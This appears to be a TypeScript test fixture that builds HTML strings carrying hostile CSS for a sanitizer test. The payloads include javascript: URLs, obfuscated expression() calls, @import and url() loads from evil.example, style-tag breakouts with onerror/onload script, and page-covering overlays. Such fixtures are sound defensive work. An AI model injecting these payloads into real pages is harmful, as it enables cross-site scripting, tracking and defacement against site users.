const css: readonly string[] = [
  'background:url(javascript:alert(1))',
  'background-image:url("https://evil.example/x.png")',
  'background:\\75rl(https://evil.example/x)',
  'width:expression(alert(1))',
  'width:e/**/xpression(alert(1))',
  'xss:expr/*x*/ession(alert(1))',
  '-moz-binding:url(https://evil.example/x.xml#x)',
  'behavior:url(x.htc)',
  'list-style-image:url("javascript:alert(1)")',
  'content:"</style><img src=x onerror=alert(1)>"',
  'font-family:"x\\"</style><svg onload=alert(1)>"',
  'position:fixed;inset:0;z-index:9999;background:red',
  'animation:x;--x:url(//evil.example)',
  '@import "https://evil.example/x.css"',
  '}*{display:none}',
  '\u0000width:expression(alert(1))',
  'color:red&#59;background&#58;url&#40;https://evil.example/x&#41;',
];

/** Styles: they run nothing in current browsers, but load addresses, cover the page and disclose text. */
export const styles: readonly string[] = css.flatMap((rule) => [
  `<p style='${rule}'>x</p>`,
  `<div style="${rule.replaceAll('"', '&quot;')}"><table style='${rule}'><tr><td style='${rule}'>x</table></div>`,
  `<style>p{${rule}}</style><p>x</p>`,
  `<svg><style>*{${rule}}</style><rect style='${rule}'/></svg>`,
  `<style type=text/css media=all>@import '${rule}';p{${rule}`,
  `<link rel=stylesheet href="data:text/css,*{${encodeURIComponent(rule)}}"><p class='${rule}' id='${rule}'>x</p>`,
]);
